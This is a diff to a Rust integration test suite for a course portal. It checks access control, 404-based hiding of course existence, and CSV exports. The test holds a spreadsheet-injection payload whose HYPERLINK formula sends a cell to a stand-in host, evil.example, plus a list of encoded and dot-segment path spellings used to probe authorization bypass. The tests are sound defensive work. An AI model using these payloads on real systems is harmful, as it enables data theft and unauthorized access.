@@ -27,16 +27,18 @@ const CALLERS: [&str; 6] = [
     "admin",
 ];
 
-/// GET pages: expected status per caller (303 = sent to sign in).
+/// GET pages: expected status per caller (303 = sent to sign in). A course page of a
+/// course the caller does not belong to answers 404, as for a course that does not exist
+/// (so course codes cannot be tried out); a member without the role gets 403.
 const PAGES: &[(&str, [u16; 6])] = &[
     ("/", [200, 200, 200, 200, 200, 200]),
     ("/login", [200, 200, 200, 200, 200, 200]),
     ("/account", [303, 200, 200, 200, 200, 200]),
     ("/courses", [303, 200, 200, 200, 200, 200]),
-    ("/courses/{code}", [303, 200, 403, 200, 403, 200]),
-    ("/courses/{code}/policy", [303, 403, 403, 200, 403, 200]),
-    ("/courses/{code}/class", [303, 403, 403, 200, 403, 200]),
-    ("/courses/{code}/bookings", [303, 403, 403, 200, 403, 200]),
+    ("/courses/{code}", [303, 200, 404, 200, 404, 200]),
+    ("/courses/{code}/policy", [303, 403, 404, 200, 404, 200]),
+    ("/courses/{code}/class", [303, 403, 404, 200, 404, 200]),
+    ("/courses/{code}/bookings", [303, 403, 404, 200, 404, 200]),
     ("/sessions", [303, 200, 200, 200, 200, 200]),
     ("/admin/users", [303, 403, 403, 403, 403, 200]),
     ("/gpus", [303, 403, 403, 403, 403, 200]),
@@ -53,7 +55,7 @@ const ENDPOINTS: &[(&str, [u16; 6])] = &[
     // login (server/tests/metrics.rs).
     ("/metrics", [404, 404, 404, 404, 404, 404]),
     ("/api/sessions/events", [401, 200, 200, 200, 200, 200]),
-    ("/courses/{code}/usage.csv", [303, 403, 403, 200, 403, 200]),
+    ("/courses/{code}/usage.csv", [303, 403, 404, 200, 404, 200]),
     // Each instructor gets the courses they teach; admins every course.
     ("/reports/usage.csv", [303, 403, 403, 200, 200, 200]),
     ("/admin/audit.csv", [303, 403, 403, 403, 403, 200]),
@@ -280,6 +282,46 @@ async fn answer(portal: &Portal, cookie: &Option<String>, function: &str, body: 
     )
     .await;
     resp.text().await.unwrap()
+}
+
+/// GET `path` exactly as written, with the login cookie when there is one: reqwest would
+/// resolve dot segments first, and a raw request is what an attacker sends. The status and
+/// the body (chunks joined).
+async fn raw_get(portal: &Portal, path: &str, cookie: Option<&str>) -> (u16, String) {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let host = portal.url.trim_start_matches("http://");
+    let cookie = cookie.map(|c| format!("Cookie: {c}\r\n")).unwrap_or_default();
+    let request = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n{cookie}Connection: close\r\n\r\n");
+    let mut raw = Vec::new();
+    tokio::time::timeout(Duration::from_secs(30), async {
+        let mut stream = tokio::net::TcpStream::connect(host).await.unwrap();
+        stream.write_all(request.as_bytes()).await.unwrap();
+        stream.read_to_end(&mut raw).await.unwrap();
+    })
+    .await
+    .unwrap_or_else(|_| panic!("GET {path} did not finish"));
+    let split = raw.windows(4).position(|w| w == b"\r\n\r\n").unwrap_or(raw.len());
+    let head = String::from_utf8_lossy(&raw[..split]).to_ascii_lowercase();
+    let body = &raw[(split + 4).min(raw.len())..];
+    let status = head.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
+    let body = if head.contains("transfer-encoding: chunked") { dechunked(body) } else { body.to_vec() };
+    (status, String::from_utf8_lossy(&body).into_owned())
+}
+
+fn dechunked(mut body: &[u8]) -> Vec<u8> {
+    let mut out = Vec::new();
+    while let Some(end) = body.windows(2).position(|w| w == b"\r\n") {
+        let size_line = String::from_utf8_lossy(&body[..end]).into_owned();
+        let size = usize::from_str_radix(size_line.split(';').next().unwrap_or("").trim(), 16).unwrap_or(0);
+        if size == 0 {
+            break;
+        }
+        let start = end + 2;
+        let stop = (start + size).min(body.len());
+        out.extend_from_slice(&body[start..stop]);
+        body = &body[(stop + 2).min(body.len())..];
+    }
+    out
 }
 
 async fn json_of(portal: &Portal, cookie: &str, function: &str) -> serde_json::Value {
@@ -522,6 +564,100 @@ async fn every_route_answers_each_caller_exactly_as_the_table_says() {
         let words = resp.text().await.unwrap();
         assert!(words.contains("Unknown period") || words.contains("is not a date"), "{path}: {words}");
     }
+
+    // CSV downloads are formula-free: a display name set by a roster and a username someone
+    // tried to sign in with come out as text, a quote in front, not as live formulas.
+    let formula = r#"=HYPERLINK("http://evil.example/?leak="&B2,"Grades")"#;
+    let roster_with_formula = format!("username,display name,email\nmallory,\"{}\",\n", formula.replace('"', "\"\""));
+    let body = format!("code=CS-101&csv_base64={}", urlencode(&base64(roster_with_formula.as_bytes())));
+    let resp = post(&client(), &portal.url, Some(&admin), "import_roster", body).await;
+    assert_eq!(resp.status(), 200, "{}", resp.text().await.unwrap());
+    let resp = post(&client(), &portal.url, None, "login", format!("username={}&password=wrong-password", urlencode("@SUM(1+1)"))).await;
+    assert_eq!(resp.status(), 401, "{}", resp.text().await.unwrap());
+    let usage = get_text(&format!("{}/courses/CS-101/usage.csv", portal.url), cookies[3].as_deref().unwrap()).await;
+    let quoted = format!(",\"'{}\",", formula.replace('"', "\"\""));
+    assert!(usage.lines().any(|l| l.starts_with("CS-101,mallory,") && l.contains(&quoted)), "{usage}");
+    assert!(!usage.contains(",=HYPERLINK") && !usage.contains(",\"=HYPERLINK"), "{usage}");
+    let audit = get_text(&format!("{}/admin/audit.csv?what=login", portal.url), cookies[5].as_deref().unwrap()).await;
+    assert!(audit.contains(",anonymous,login.failure,'@SUM(1+1),"), "{audit}");
+    assert!(!audit.contains(",@SUM("), "{audit}");
+
+    // The course routes however their path is spelled: percent-encoded, double-encoded,
+    // in another case, with a trailing slash, `//` or dot segments. Nobody outside CS-101
+    // gets 200 or a line naming its students (alice, mallory) or alice's email; its
+    // instructor still gets the CSV for the spellings the router serves.
+    let spellings = [
+        "/courses/%43S-101/usage.csv",
+        "/courses/CS%2D101/usage.csv",
+        "/courses/CS%2d101/usage.csv",
+        "/courses/%43%53%2D%31%30%31/usage.csv",
+        "/courses/%2543S-101/usage.csv",
+        "/courses/%252543S-101/usage.csv",
+        "/courses/cs-101/usage.csv",
+        "/courses/Cs-101/usage.csv",
+        "/COURSES/CS-101/USAGE.CSV",
+        "/courses/CS-101/Usage.csv",
+        "/courses/CS-101/usage.csv/",
+        "/courses/%43S-101/usage.csv/",
+        "//courses/CS-101/usage.csv",
+        "/courses//CS-101/usage.csv",
+        "/courses/CS-101//usage.csv",
+        "/courses/CS-101/./usage.csv",
+        "/courses/x/../CS-101/usage.csv",
+        "/courses/./CS-101/usage.csv",
+        "/courses/%2E%2E/courses/CS-101/usage.csv",
+        "/courses/CS-101/%2e/usage.csv",
+        "/courses/CS-101/usage.csv/..",
+        "/x/../courses/CS-101/usage.csv",
+        "/courses/%43S-101",
+        "/courses/cs-101/",
+        "/courses/%43S-101/class",
+        "/courses/cs-101/class/",
+        "/courses/CS-101/./class",
+        "/courses/%43S-101/policy",
+        "/courses/CS%2D101/bookings",
+    ];
+    let mut spelled = Vec::new();
+    for path in spellings {
+        for i in [0, 2, 4] {
+            let (status, body) = raw_get(&portal, path, cookies[i].as_deref()).await;
+            if status == 200 {
+                spelled.push(format!("GET {path} as {}: 200", CALLERS[i]));
+            }
+            for marker in ["alice", "mallory", "student-a-secret@example.edu", "HYPERLINK"] {
+                if body.contains(marker) {
+                    spelled.push(format!("GET {path} as {} shows {marker}: {}", CALLERS[i], body.chars().take(300).collect::<String>()));
+                }
+            }
+        }
+    }
+    for path in ["/courses/%43S-101/usage.csv", "/courses/CS%2D101/usage.csv", "/courses/cs-101/usage.csv"] {
+        let (status, body) = raw_get(&portal, path, cookies[3].as_deref()).await;
+        if status != 200 || !body.contains(",alice,") {
+            spelled.push(format!("GET {path} as instructor-a: {status} {}", body.chars().take(300).collect::<String>()));
+        }
+    }
+    assert!(spelled.is_empty(), "course routes by other spellings:\n{}", spelled.join("\n"));
+
+    // Someone outside CS-101 cannot tell it from a course that does not exist: every
+    // course page answers the same status and the same page for both codes. Anonymous
+    // callers are sent to sign in for both.
+    let mut told_apart = Vec::new();
+    for page in ["", "/policy", "/class", "/bookings", "/usage.csv"] {
+        for i in [0, 2, 4] {
+            let (real, real_body) = raw_get(&portal, &format!("/courses/CS-101{page}"), cookies[i].as_deref()).await;
+            let (none, none_body) = raw_get(&portal, &format!("/courses/NO-SUCH-9{page}"), cookies[i].as_deref()).await;
+            let expected = if i == 0 { 303 } else { 404 };
+            if real != expected || none != expected || real_body != none_body {
+                told_apart.push(format!(
+                    "/courses/CS-101{page} vs /courses/NO-SUCH-9{page} as {}: {real} vs {none}{}",
+                    CALLERS[i],
+                    if real_body == none_body { "" } else { ", different pages" }
+                ));
+            }
+        }
+    }
+    assert!(told_apart.is_empty(), "an existing course told apart:\n{}", told_apart.join("\n"));
 
     let mut mismatches = Vec::new();
     let mut check = |what: String, i: usize, status: u16, expected: u16, body: &str| {
